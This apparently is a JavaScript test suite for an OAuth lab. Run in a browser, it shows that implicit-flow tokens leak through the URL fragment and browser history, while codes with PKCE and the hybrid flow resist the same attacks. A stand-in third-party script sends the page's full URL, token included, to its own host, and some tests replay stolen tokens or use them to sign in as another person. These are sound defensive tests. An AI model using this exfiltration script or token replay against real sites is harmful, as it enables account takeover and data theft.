// The lab of legacy flows: what leaks when tokens come back through the address bar, tried in a real browser, and the same
// tried with a code. `run --legacy-flows` starts the services that still do it.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, describe, test } from "node:test";
import * as client from "openid-client";
import { allow, backAt, chromiumForTests, complaintsWhile, decide, signIn } from "./support/browser.mjs";
import { auth, json, newPerson, orders, setting } from "./support/house.mjs";
import { Partner } from "./support/partner.mjs";

const IDENTITY = "openid profile";
const API = "orders:read orders:write";
const IMPLICIT = { response_type: "token", scope: API };
const PAGE = { token_endpoint_auth_method: "none", grant_types: ["implicit"] };
const BOTH = { grant_types: ["authorization_code", "refresh_token", "implicit"] };

const fragmentOf = (address) => Object.fromEntries(new URLSearchParams(new URL(address).hash.slice(1)));
const bearer = (token) => ({ headers: { authorization: `Bearer ${token}` } });
const statusOf = async (token) => (await fetch(`${orders}/orders`, bearer(token))).status;

/** Some other site, which keeps the path of each request that it gets. */
async function openStranger() {
  const requests = [];
  const server = createServer((request, response) => {
    requests.push(request.url);
    const script = request.url === "/count.js";
    response.writeHead(200, { "content-type": script ? "text/javascript" : "text/html" });
    // What any script may do that a page takes in: for its statistics, its fonts, its chat.
    const body = "new Image().src = `${new URL(document.currentScript.src).origin}/seen?${encodeURIComponent(location.href)}`;";
    response.end(script ? body : '<!doctype html><html lang="en"><title>Stranger</title><link rel="icon" href="data:,">');
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const origin = `http://127.0.0.1:${server.address().port}`;
  const close = () => (server.closeAllConnections(), new Promise((resolve) => server.close(resolve)));
  const seen = async () => {
    for (let tries = 0; tries < 200; tries += 1) {
      const request = requests.find((path) => path.startsWith("/seen?"));
      if (request) return decodeURIComponent(request.slice("/seen?".length));
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    throw new Error("the stranger's script was not run");
  };
  return { origin, seen, close };
}

describe("the implicit flow", () => {
  const open = chromiumForTests();
  const closing = [];
  const register = async (...given) => {
    const partner = await Partner.open(...given);
    closing.push(partner);
    return partner;
  };
  const strange = async () => {
    const stranger = await openStranger();
    closing.push(stranger);
    return stranger;
  };
  after(() => Promise.all(closing.map((site) => site.close())));

  test("it works: a page without a server reads the person's orders", async () => {
    const shop = await register("Page", API, { port: Number(setting("BROWSER_PAGE_PORT")), more: PAGE });
    shop.serve(
      "/callback",
      `<h1>Loading</h1><script type="module">
         const { access_token, state } = Object.fromEntries(new URLSearchParams(location.hash.slice(1)));
         const options = { headers: { authorization: "Bearer " + access_token } };
         const answer = await fetch("${orders}/orders", options);
         document.querySelector("h1").textContent = answer.status + " " + JSON.stringify(await answer.json());
       </script>`,
    );
    const page = await open();
    const { request, address } = await allow(page, shop, await newPerson(), IMPLICIT);
    assert.equal(fragmentOf(address).state, request.state);
    await page.getByRole("heading", { name: /^200 \{"items":\[\]/ }).waitFor();
  });

  test("every script of the page has the token, and it opens the API from anywhere", async () => {
    const [shop, stranger, person] = [await register("Page", API, { more: BOTH }), await strange(), await newPerson()];
    shop.serve("/callback", `<h1>Welcome</h1><script src="${stranger.origin}/count.js"></script>`);
    await allow(await open(), shop, person, IMPLICIT);
    const { access_token } = fragmentOf(await stranger.seen());
    assert.equal(await statusOf(access_token), 200);
    assert.equal(await statusOf(access_token), 200, "as often as one likes, until it expires");
  });

  test("the same script has a code, with which it can do nothing", async () => {
    const [shop, stranger, person] = [await register("Server", API), await strange(), await newPerson()];
    shop.serve("/callback", `<h1>Welcome</h1><script src="${stranger.origin}/count.js"></script>`);
    const { request } = await allow(await open(), shop, person, { scope: API });
    const leaked = await stranger.seen();
    const code = new URL(leaked).searchParams.get("code");
    assert.equal(await statusOf(code), 401);
    const form = { grant_type: "authorization_code", code, redirect_uri: shop.redirectUri, client_id: shop.client_id };
    const stolen = await fetch(`${auth}/oauth/token`, { method: "POST", body: new URLSearchParams(form) });
    assert.equal(stolen.status, 401, "the client has a secret");
    const guessed = shop.redeem({ ...request, verifier: "x".repeat(43) }, leaked);
    await assert.rejects(guessed, /400 .*invalid_grant/, "and even with it, a verifier is missing");
    const mine = await shop.redeem(request, leaked);
    assert.equal(await statusOf(mine.access_token), 200, "and the client can still redeem it");
  });

  test("the history keeps it: whoever goes back has it again", async () => {
    const [shop, page] = [await register("Page", API, { more: PAGE }), await open()];
    const { address } = await allow(page, shop, await newPerson(), IMPLICIT);
    await page.goto(shop.serve("/later", "<h1>Later</h1>"));
    await page.goBack();
    assert.equal(page.url(), address);
    assert.equal(await statusOf(fragmentOf(page.url()).access_token), 200);
  });

  test("of a code the history keeps one that is spent", async () => {
    const [shop, page] = [await register("Server", API), await open()];
    const { request, address } = await allow(page, shop, await newPerson(), { scope: API });
    await shop.redeem(request, address);
    await page.goto(shop.serve("/later", "<h1>Later</h1>"));
    await page.goBack();
    assert.equal(page.url(), address);
    await assert.rejects(shop.redeem(request, page.url()), /400 .*invalid_grant/);
  });

  test("a redirect at the callback takes it along to another site", async () => {
    const [shop, stranger] = [await register("Page", API, { more: BOTH }), await strange()];
    const page = await open();
    await allow(page, shop, await newPerson(), IMPLICIT);
    // The second time nobody is asked. The callback sends browsers on, as many did with an address in the query.
    shop.serve("/callback", new URL(`${stranger.origin}/landing`));
    await page.goto(shop.request(IMPLICIT).url);
    assert.equal(new URL(page.url()).origin, stranger.origin);
    assert.equal(await statusOf(fragmentOf(page.url()).access_token), 200, "the browser kept the fragment");
  });

  test("right after Allow, Chromium does not follow the callback to another site", async () => {
    const [shop, stranger] = [await register("Page", API, { more: PAGE }), await strange()];
    shop.serve("/callback", new URL(`${stranger.origin}/landing`));
    const page = await open();
    await page.goto(shop.request(IMPLICIT).url);
    await signIn(page, await newPerson());
    const [complaint] = await complaintsWhile(page, async () => {
      const said = page.waitForEvent("console", (message) => message.type() === "error");
      await decide(page, "Allow");
      await said;
    });
    assert.match(complaint, /form-action/);
    assert.equal(new URL(page.url()).origin, auth, "the browser is where it was");
  });

  test("of a code nothing goes along", async () => {
    const [shop, stranger] = [await register("Server", API), await strange()];
    const page = await open();
    await allow(page, shop, await newPerson(), { scope: API });
    shop.serve("/callback", new URL(`${stranger.origin}/landing`));
    await page.goto(shop.request({ scope: API }).url);
    assert.equal(page.url(), `${stranger.origin}/landing`);
  });

  test("a client that was given a token is that person at another client", async () => {
    const [bad, good] = [await register("Prizes", IDENTITY, { more: PAGE }), await register("Bank", IDENTITY, { more: PAGE })];
    // The bank signs in whoever brings a token that userinfo knows (RFC 6749 section 10.16).
    const signedInAtBank = (token) => json(`${auth}/oauth/userinfo`, bearer(token));
    const [victim, mallory] = [await newPerson("Alice"), await newPerson("Mallory")];
    const { address } = await allow(await open(), bad, victim, { response_type: "token", scope: IDENTITY });
    const theirs = await allow(await open(), good, mallory, { response_type: "token", scope: IDENTITY });
    assert.equal((await signedInAtBank(fragmentOf(theirs.address).access_token)).name, "Mallory");
    assert.equal((await signedInAtBank(fragmentOf(address).access_token)).name, "Alice", "by Mallory, at the bank");
  });

  test("a code that one client was given is nothing at another", async () => {
    const [bad, good] = [await register("Prizes", IDENTITY), await register("Bank", IDENTITY)];
    const page = await open();
    const { address } = await allow(page, bad, await newPerson("Alice"), { scope: IDENTITY });
    const request = good.request({ scope: IDENTITY });
    const slipped = new URL(address.replace(bad.origin, good.origin));
    slipped.searchParams.set("state", request.state);
    await assert.rejects(good.redeem(request, slipped.href), /400 .*invalid_grant/);
  });
});

describe("the hybrid flow, by openid-client", () => {
  const open = chromiumForTests();
  let shop, config;
  before(async () => {
    shop = await Partner.open("Hybrid", `${IDENTITY} ${API} offline_access`, { more: BOTH });
    const { client_id, client_secret } = shop;
    const execute = [client.allowInsecureRequests, client.useCodeIdTokenResponseType];
    const authentication = client.ClientSecretBasic(client_secret);
    config = await client.discovery(new URL(auth), client_id, {}, authentication, { execute });
  });
  after(() => shop.close());

  /** A person's way through it, by the address that the client made. */
  async function flow() {
    const checks = {
      pkceCodeVerifier: client.randomPKCECodeVerifier(),
      expectedState: client.randomState(),
      expectedNonce: client.randomNonce(),
      idTokenExpected: true,
    };
    const url = client.buildAuthorizationUrl(config, {
      redirect_uri: shop.redirectUri,
      scope: `${IDENTITY} ${API}`,
      state: checks.expectedState,
      nonce: checks.expectedNonce,
      code_challenge: await client.calculatePKCECodeChallenge(checks.pkceCodeVerifier),
      code_challenge_method: "S256",
    });
    const page = await open();
    await page.goto(url.href);
    await signIn(page, await newPerson());
    await decide(page, "Allow");
    return { url, checks, address: new URL(await backAt(page, shop)) };
  }

  test("it takes the ID token, and redeems the code that the ID token names", async () => {
    const { url, checks, address } = await flow();
    assert.equal(url.searchParams.get("response_type"), "code id_token");
    assert.deepEqual(Object.keys(fragmentOf(address)).sort(), ["code", "id_token", "iss", "state"]);
    const tokens = await client.authorizationCodeGrant(config, address, checks);
    assert.equal(await statusOf(tokens.access_token), 200);
    assert.equal(tokens.claims().aud, shop.client_id);
  });

  /** The same answer with one parameter changed. */
  function changed(address, name, value) {
    const [other, fragment] = [new URL(address), new URLSearchParams(address.hash.slice(1))];
    fragment.set(name, value);
    other.hash = fragment.toString();
    return other;
  }
  const refuses = (promise, reason) =>
    assert.rejects(promise, (error) => {
      assert.match(error.cause?.message ?? error.message, reason);
      return true;
    });

  test("it refuses another code beside the same ID token, and an ID token for another nonce", async () => {
    const { checks, address } = await flow();
    const grant = (url, otherwise) => client.authorizationCodeGrant(config, url, { ...checks, ...otherwise });
    const { code, id_token } = fragmentOf(address);
    await refuses(grant(changed(address, "code", `${code.slice(0, -1)}${code.endsWith("A") ? "B" : "A"}`)), /c_hash/);
    await refuses(grant(address, { expectedNonce: "another" }), /nonce/);
    const [header, payload] = id_token.split(".");
    await refuses(grant(changed(address, "id_token", `${header}.${payload}.${"A".repeat(86)}`)), /signature/);
    assert.ok((await grant(address)).access_token, "and nothing of it was spent");
  });

  test("what stands in its fragment opens nothing", async () => {
    const { address } = await flow();
    const { code, id_token } = fragmentOf(address);
    for (const token of [id_token, code]) {
      assert.equal(await statusOf(token), 401);
      assert.equal((await fetch(`${auth}/oauth/userinfo`, bearer(token))).status, 401);
    }
  });
});
